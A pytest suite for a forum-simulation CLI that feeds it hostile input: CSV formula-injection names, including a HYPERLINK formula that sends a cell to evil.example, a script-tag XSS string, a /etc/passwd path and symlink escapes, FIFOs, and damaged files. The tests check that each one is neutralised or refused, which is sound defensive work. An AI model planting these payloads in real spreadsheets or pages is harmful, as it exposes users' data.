"""Hostile input: tables scraped from the fora (attacker-controlled names, absurd values),
files that are pipes or devices, scenario files that point outside their folder. Nothing
leaks, nothing hangs, nothing is silently wrong: each case ends in one line naming the file
(and row and column), exit code 2, and nothing written; or, where the input is merely
odd, in output that is safe to open. Every case runs the real command in its own process.
"""

from __future__ import annotations

import csv
import json
import os
import random
import subprocess
import sys
from pathlib import Path

import pytest

SRC = str(Path(__file__).parents[1] / "src")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def forumsim(*args: object, cwd: Path, timeout: float = 300,
             memory: int | None = None) -> subprocess.CompletedProcess:
    """`forumsim ARGS` in a process of its own, in the folder `cwd` (with at most `memory`
    bytes of address space, if given)."""
    import resource

    def limited() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (memory, memory))

    env = {**os.environ, "PYTHONPATH": SRC, "COLUMNS": "200"}
    return subprocess.run([sys.executable, "-m", "forumsim.ui.cli", *map(str, args)], cwd=cwd,
                          env=env, capture_output=True, text=True, timeout=timeout,
                          preexec_fn=limited if memory else None)


def refused(done: subprocess.CompletedProcess, *words: str) -> str:
    """The one line of a refusal (exit 2, no traceback), which holds each of `words`."""
    message = done.stderr.strip()
    assert done.returncode == 2, done.stderr + done.stdout
    assert "\n" not in message and "Traceback" not in done.stderr, done.stderr
    assert message.startswith("error: "), message
    for word in words:
        assert word in " ".join(message.split()), f"{word!r} not in {message!r}"
    return message


HOSTILE_NAMES = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1)',
                 "<script>alert(1)</script>", "$\\frac{$x", "@SUM(1+1)*cmd|' /C calc'!A0"]


def write_posts(path: Path, fora: list[str], threads: int = 60, seed: int = 1) -> Path:
    """A posts table of `fora`, each with `threads` threads of one to four posts."""
    rng = random.Random(seed)
    rows, post = [], 0
    for name in fora:
        for thread in range(threads):
            first, day = None, rng.randint(1, 25)
            for k in range(rng.randint(1, 4)):
                post += 1
                rows.append([post, thread, name, f"u{rng.randint(0, 80)}",
                             f"2021-0{1 + thread % 6}-{day:02d}T{k:02d}:00:00Z", first or ""])
                first = first or post
    with path.open("w", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["post_id", "thread_id", "forum", "author", "timestamp", "reply_to"])
        writer.writerows(rows)
    return path


# --- 6. names from a scraped table: no formula reaches a spreadsheet, no markup a page ----


@pytest.fixture(scope="module")
def hostile_sweep(tmp_path_factory) -> Path:
    """A sweep (with a variant whose label starts with '-') of a scenario started from a
    posts table whose forum names are formulas, markup and TeX; run through the command."""
    folder = tmp_path_factory.mktemp("hostile")
    write_posts(folder / "posts.csv", HOSTILE_NAMES)
    (folder / "scraped.yaml").write_text(
        "extends: small\nname: scraped\nstart_from: posts.csv\ndays: 60\n"
        "interventions: [{type: takedown, day: 30, target: largest}]\n")
    (folder / "sweep.yaml").write_text(
        "base: scraped.yaml\nparameters:\n  interventions:\n    variants:\n"
        "      none: []\n      -seize: [{type: takedown, day: 30, target: largest}]\n"
        "replicates: 2\nseed: 4\n")
    done = forumsim("sweep", "sweep.yaml", "--out", "sweep", "--executor", "inline", "-q",
                    cwd=folder)
    assert done.returncode == 0, done.stderr
    return folder


def test_no_cell_of_an_export_starts_a_spreadsheet_formula(hostile_sweep):
    done = forumsim("export", "sweep", cwd=hostile_sweep)
    assert done.returncode == 0, done.stderr
    cells = {}
    for name in ("runs.csv", "series.csv"):
        with (hostile_sweep / "sweep" / "csv" / name).open(newline="") as handle:
            rows = list(csv.reader(handle))
        cells[name] = [cell for row in rows for cell in row]
        assert not [c for c in cells[name] if c.startswith(FORMULA_STARTS)], name
        assert "'-seize" in cells[name]  # the variant's label, neutralised
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells["runs.csv"]  # the seized forum's name


def test_names_from_a_table_are_never_markup_in_a_report(hostile_sweep):
    done = forumsim("report", "sweep", cwd=hostile_sweep)
    assert done.returncode == 0, done.stderr
    page = (hostile_sweep / "sweep" / "report.html").read_text()
    assert "<script>alert" not in page


def test_a_run_from_a_table_with_tex_in_its_forum_names_draws_them_as_written(hostile_sweep):
    done = forumsim("run", "scraped.yaml", "--out", "run", "-q", cwd=hostile_sweep)
    assert done.returncode == 0, done.stderr
    assert len(list((hostile_sweep / "run" / "figures").glob("*.png"))) == 6


def test_only_text_a_spreadsheet_would_run_is_neutralised():
    from forumsim.experiment.export import spreadsheet_safe

    assert spreadsheet_safe("=1+1") == "'=1+1" and spreadsheet_safe("\tx") == "'\tx"
    assert spreadsheet_safe("-1") == "'-1" and spreadsheet_safe(-1) == -1
    assert spreadsheet_safe("Forum A") == "Forum A"


# --- 7. extends: and base: stay in the scenario's folder tree ------------------------------


def test_a_link_in_the_folder_to_a_file_elsewhere_is_not_followed(tmp_path):
    secret = tmp_path / "elsewhere" / "secret.yaml"
    secret.parent.mkdir()
    secret.write_text("token_abc123: 1\n")
    project = tmp_path / "project"
    project.mkdir()
    (project / "base.yaml").symlink_to(secret)
    (project / "scenario.yaml").write_text("extends: base.yaml\ndays: 30\n")
    message = refused(forumsim("run", "scenario.yaml", "--out", "out", cwd=project),
                      "field 'extends' names base.yaml, which is outside")
    assert "token_abc123" not in message and not (project / "out").exists()


def test_a_calibrations_base_outside_its_folder_is_refused_without_showing_it(tmp_path):
    (tmp_path / "calibration.yaml").write_text(
        "base: /etc/passwd\nparameters: {behaviour.reply_share: {uniform: [0.2, 0.9]}}\n"
        "targets: {published: {reply_share: {value: 0.5, tolerance: 0.1}}}\n"
        "fit: [reply_share]\n")
    message = refused(forumsim("calibrate", "calibration.yaml", "--out", "cal", cwd=tmp_path),
                      "field 'base' names /etc/passwd, which is outside")
    assert "root:" not in message and not (tmp_path / "cal").exists()


# --- 9. pipes and devices are refused at once, in and out ---------------------------------

SMALL_POSTS = ("post_id,thread_id,forum,author,timestamp,reply_to\n"
               "1,1,F,a,2021-01-01T00:00:00Z,\n2,1,F,b,2021-01-02T00:00:00Z,1\n")


@pytest.mark.parametrize("special", ["fifo", "/dev/zero", "/dev/null"])
def test_summarize_refuses_a_pipe_or_device_as_its_output(tmp_path, special):
    (tmp_path / "posts.csv").write_text(SMALL_POSTS)
    out = tmp_path / "targets.fifo" if special == "fifo" else Path(special)
    if special == "fifo":
        os.mkfifo(out)
    done = forumsim("data", "summarize", "posts.csv", "--out", out, cwd=tmp_path, timeout=60)
    refused(done, f"--out {out}: is not a regular file")


@pytest.mark.parametrize("special", ["fifo", "/dev/zero"])
def test_a_calibrations_targets_file_that_is_a_pipe_or_device_is_refused(tmp_path, special):
    targets = "targets.fifo" if special == "fifo" else special
    if special == "fifo":
        os.mkfifo(tmp_path / targets)
    (tmp_path / "calibration.yaml").write_text(
        f"base: small\nparameters: {{behaviour.reply_share: {{uniform: [0.2, 0.9]}}}}\n"
        f"targets: {{file: {targets}}}\nfit: [reply_share]\n")
    done = forumsim("calibrate", "calibration.yaml", "--out", "cal", cwd=tmp_path, timeout=60)
    refused(done, "targets.file", "is not a regular file")
    assert not (tmp_path / "cal").exists()


def test_a_table_that_is_a_pipe_is_refused(tmp_path):
    os.mkfifo(tmp_path / "posts.csv")
    refused(forumsim("data", "check", "posts.csv", cwd=tmp_path, timeout=60),
            "posts.csv: not a regular file")


# --- 11. times outside any forum's life are refused with their row and column --------------


@pytest.mark.parametrize("stamp, shown", [("-1", "'-1'"), ("0001-01-01", "'0001-01-01'"),
                                          ("1970-01-01T00:00:00Z", "'1970-01-01T00:00:00Z'"),
                                          ("2099-05-01", "'2099-05-01'")])
@pytest.mark.parametrize("command", ["check", "summarize", "start-from"])
def test_a_time_outside_any_forums_life_is_refused(tmp_path, stamp, shown, command):
    (tmp_path / "posts.csv").write_text(SMALL_POSTS.replace("2021-01-02T00:00:00Z", stamp))
    args = {"check": ["data", "check", "posts.csv"],
            "summarize": ["data", "summarize", "posts.csv", "--out", "t.json"],
            "start-from": ["run", "small", "--start-from", "posts.csv", "--out", "r"]}[command]
    refused(forumsim(*args, cwd=tmp_path, timeout=120),
            "posts.csv, row 2, column timestamp:", shown, "outside the life of any forum")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["posts.csv"]


def test_a_run_exports_times_of_the_models_calendar_which_read_back(tmp_path):
    # A run's export is dated from 2020-01-01; nine simulated years reach past today, and
    # the table says so (its times are not compared with the day it was written).
    done = forumsim("run", "small", "--people", "300", "--days", str(9 * 365), "--quiet",
                    "--no-figures", "--export-posts", "--out", "run", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert forumsim("data", "check", "run", cwd=tmp_path).returncode == 0


# --- tables that used to end in a traceback -------------------------------------------------


def _parquet(path: Path, **columns) -> Path:
    import pyarrow as pa
    import pyarrow.parquet as pq

    base = {"post_id": pa.array([1, 2]), "thread_id": pa.array([1, 1]),
            "forum": pa.array(["F", "F"]), "author": pa.array(["a", "b"]),
            "timestamp": pa.array([1.6e9, 1.6e9 + 60]).cast(pa.int64()).cast(
                pa.timestamp("s", tz="UTC")),
            "reply_to": pa.array([None, 1], type=pa.int64())}
    pq.write_table(pa.table({**base, **columns}), path)
    return path


@pytest.mark.parametrize("case", ["id 1e20", "float time 1e308", "time in the year 300000",
                                  "time before 1990"])
def test_a_parquet_table_with_absurd_numbers_is_refused_in_one_line(tmp_path, case):
    import pyarrow as pa

    columns = {
        "id 1e20": {"post_id": pa.array([1.0, 1e20])},
        "float time 1e308": {"timestamp": pa.array([1.6e9, 1e308])},
        "time in the year 300000": {"timestamp": pa.array(
            [1_600_000_000, 300_000 * 31_556_952]).cast(pa.timestamp("s"))},
        "time before 1990": {"timestamp": pa.array([0, 86400]).cast(pa.timestamp("s"))},
    }[case]
    _parquet(tmp_path / "posts.parquet", **columns)
    column = "post_id" if case == "id 1e20" else "timestamp"
    refused(forumsim("data", "check", "posts.parquet", cwd=tmp_path),
            f"posts.parquet, row {1 if case == 'time before 1990' else 2}, column {column}")


@pytest.mark.parametrize("characters", [10_000_000, 20_000_000])
def test_a_csv_field_of_millions_of_characters_is_refused_in_one_line(tmp_path, characters):
    (tmp_path / "posts.csv").write_text(SMALL_POSTS + f'3,1,F,"{"x" * characters}",'
                                        "2021-01-03T00:00:00Z,\n")
    refused(forumsim("data", "check", "posts.csv", cwd=tmp_path), "posts.csv, row 3")


def test_a_large_sparse_csv_is_refused_at_its_first_block(tmp_path):
    with (tmp_path / "posts.csv").open("wb") as handle:
        handle.truncate(2 << 30)  # 2 GB of NUL bytes, taking no room on disk
    # Within 1.5 GB of memory: the file is not read whole to find its first byte bad.
    refused(forumsim("data", "check", "posts.csv", cwd=tmp_path, timeout=60,
                     memory=1536 << 20), "posts.csv, row 0: holds a NUL byte")


def test_a_targets_file_whose_statistics_are_a_list_is_refused_in_one_line(tmp_path):
    (tmp_path / "targets.json").write_text(json.dumps({"kind": "forumsim targets",
                                                       "statistics": [1, 2]}))
    (tmp_path / "calibration.yaml").write_text(
        "base: small\nparameters: {behaviour.reply_share: {uniform: [0.2, 0.9]}}\n"
        "targets: {file: targets.json}\nfit: [reply_share]\n")
    refused(forumsim("calibrate", "calibration.yaml", "--out", "cal", cwd=tmp_path),
            "targets.json: not a targets file", "'statistics' is not a mapping")


# --- a damaged sweep folder: report, export, discover and --resume say so in one line -----


def _truncated(path: Path) -> None:
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])


def _manifest_without(key: str):
    def change(folder: Path) -> None:
        manifest = json.loads((folder / "manifest.json").read_text())
        del manifest[key]
        (folder / "manifest.json").write_text(json.dumps(manifest))
    return change


DAMAGES = {
    "manifest of []": lambda f: (f / "manifest.json").write_text("[]"),
    "manifest not JSON": lambda f: (f / "manifest.json").write_text("{not json"),
    "manifest without parameters": _manifest_without("parameters"),
    "manifest without its spec": _manifest_without("spec"),
    "manifest with parameters 5": lambda f: (f / "manifest.json").write_text(
        (f / "manifest.json").read_text().replace('"parameters": [', '"parameters": 5, "x": [')),
    "summary truncated": lambda f: _truncated(f / "summary.parquet"),
    "summary of another table": lambda f: __import__("pandas").DataFrame(
        {"x": [1]}).to_parquet(f / "summary.parquet"),
    "a runs part truncated": lambda f: _truncated(f / "runs" / "part-00000.parquet"),
    "a series part truncated": lambda f: _truncated(f / "series" / "part-00000.parquet"),
}
COMMANDS = {"report": ["report", "damaged"],
            "export": ["export", "damaged", "--out", "csv"],
            "discover": ["discover", "damaged", "--outcome", "iv0_loss", "--below", "0.1"],
            "resume": ["sweep", "tiny_sweep.yaml", "--out", "damaged", "--resume",
                       "--executor", "inline", "-q"]}


@pytest.fixture(scope="module")
def damaged_outcomes(tmp_path_factory):
    """Every damage through every command, each in a process of its own, a few at once."""
    import shutil
    from concurrent.futures import ThreadPoolExecutor

    root = tmp_path_factory.mktemp("damaged")
    tiny = Path(__file__).parent / "data" / "tiny_sweep.yaml"
    shutil.copy(tiny, root / "tiny_sweep.yaml")
    done = forumsim("sweep", "tiny_sweep.yaml", "--out", "good", "--executor", "inline", "-q",
                    cwd=root)
    assert done.returncode == 0, done.stderr

    def attempt(case: tuple[str, str]):
        damage, command = case
        folder = root / f"{damage}-{command}".replace(" ", "_")
        folder.mkdir()
        shutil.copy(tiny, folder / "tiny_sweep.yaml")
        shutil.copytree(root / "good", folder / "damaged")
        DAMAGES[damage](folder / "damaged")
        return forumsim(*COMMANDS[command], cwd=folder, timeout=120)

    cases = [(d, c) for d in DAMAGES for c in COMMANDS]
    with ThreadPoolExecutor(4) as pool:
        return dict(zip(cases, pool.map(attempt, cases), strict=True))


@pytest.mark.parametrize("damage", DAMAGES)
@pytest.mark.parametrize("command", COMMANDS)
def test_a_damaged_sweep_folder_is_refused_in_one_line(damaged_outcomes, damage, command):
    done = damaged_outcomes[(damage, command)]
    if done.returncode == 0:  # e.g. --resume rewrites a damaged summary from the parts
        return
    refused(done, "damaged")


# --- small things that misled ---------------------------------------------------------------


def test_a_file_of_sixty_thousand_keys_is_refused_for_its_size_not_for_aliases(tmp_path):
    (tmp_path / "keys.yaml").write_text("".join(f"k{i}: {i}\n" for i in range(60_000)))
    message = refused(forumsim("run", "keys.yaml", "--out", "out", cwd=tmp_path),
                      "holds more than 100,000 values")
    assert "alias" not in message


@pytest.mark.parametrize("args, words", [
    (["run", "--people", "3"], "Invalid value for '--people'"),
    (["run", "--days", "abc"], "Invalid value for '--days'"),
    (["run", "--no-such-option"], "No such option: --no-such-option"),
    (["sweep"], "Missing argument"),
    (["demo", "--max-sessions", "0"], "Invalid value for '--max-sessions'"),
])
def test_a_mistake_on_the_command_line_is_one_line(tmp_path, args, words):
    message = refused(forumsim(*args, cwd=tmp_path), words)
    assert message.endswith("--help)")
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("address", ["ucx://127.0.0.1:9", "tls://127.0.0.1:9"])
@pytest.mark.parametrize("command", ["sweep", "calibrate"])
def test_a_scheduler_of_another_transport_is_refused_in_one_line(tmp_path, address, command):
    (tmp_path / "calibration.yaml").write_text(
        "base: small\nparameters: {behaviour.reply_share: {uniform: [0.2, 0.9]}}\n"
        "targets: {published: {reply_share: {value: 0.5, tolerance: 0.1}}}\n"
        "fit: [reply_share]\n")
    file = (Path(__file__).parent / "data" / "tiny_sweep.yaml" if command == "sweep"
            else tmp_path / "calibration.yaml")
    refused(forumsim(command, file, "--out", "out", "--scheduler", address, cwd=tmp_path),
            f"cannot reach the Dask scheduler at {address}")
    assert not (tmp_path / "out").exists()
